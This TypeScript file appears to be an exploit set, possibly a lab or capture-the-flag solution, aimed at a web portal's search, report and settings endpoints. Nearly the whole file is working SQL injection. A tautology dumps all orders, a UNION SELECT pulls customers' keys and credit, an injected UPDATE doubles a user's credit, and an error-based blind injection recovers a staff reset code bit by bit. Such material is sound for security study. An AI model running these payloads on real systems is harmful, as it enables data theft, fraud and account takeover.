import { request, type ClientResponse } from 'ounce:client';

interface Me {
  name: string;
  key: string;
}

/** A portal that somebody signs in to. */
class Portal {
  readonly #key: string;
  constructor({ key }: Me) {
    this.#key = key;
  }
  search(item: string): Promise<ClientResponse> {
    return this.#get('/orders', { item });
  }
  report(sort: string): Promise<ClientResponse> {
    return this.#get('/report', { sort });
  }
  save(language: string): Promise<ClientResponse> {
    return request({ method: 'put', url: '/settings', headers: { 'X-Key': this.#key }, body: { language } });
  }
  #get(path: string, query: Record<string, string>): Promise<ClientResponse> {
    return request({ url: `${path}?${new URLSearchParams(query)}`, headers: { 'X-Key': this.#key } });
  }
}

/** Every quote that is opened is closed again by one of the template's own. */
export async function readOrders(me: Me): Promise<string> {
  return (await new Portal(me).search("' OR item LIKE '")).body;
}

/** A comment stands for the space between the two words. */
export async function readKey(me: Me): Promise<string> {
  const union = "-' UNION/**/SELECT key, language, credit, name FROM customers WHERE name LIKE '";
  return (await new Portal(me).search(union)).body;
}

export async function raiseCredit(me: Me): Promise<void> {
  await new Portal(me).save("'', credit = 2 * credit, language = ' ");
}

/** The condition decides whether the statement fails: an error is an answer. */
export async function readCode(me: Me): Promise<string> {
  const portal = new Portal(me);
  const holds = async (condition: string): Promise<boolean> => {
    const sort = `(SELECT CASE WHEN ${condition} THEN 1 ELSE json('no json') END FROM staff WHERE reset_code NOT NULL)`;
    return (await portal.report(sort)).status === 200;
  };
  let code = '';
  for (let place = 1; place <= 16; place++) {
    const digit = `instr('0123456789abcdef', substr(reset_code, ${place}, 1)) - 1`;
    let value = 0;
    for (const bit of [8, 4, 2, 1]) if (await holds(`(${digit}) & ${bit}`)) value += bit;
    code += value.toString(16);
  }
  return code;
}
